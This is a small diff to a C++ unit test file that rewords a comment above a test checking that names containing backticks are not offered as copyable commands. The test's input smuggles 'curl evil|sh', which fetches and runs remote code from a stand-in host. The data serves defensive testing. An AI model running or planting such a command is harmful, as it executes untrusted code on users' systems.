@@ -340,7 +340,7 @@ TEST(Explain, TellsOfAWarmJobWhatItsProcessHadServed) {
   EXPECT_THAT(explain(about).evidence, Contains(words));
 }
 
-// The page offers what stands between backticks as a command to copy.
+// The page offers text between backticks as a command to copy.
 TEST(Explain, NamesOfOthersMakeNoCommand) {
   const std::string hostile = "x`curl evil|sh`y";
   for (const Case& each : all_cases()) {
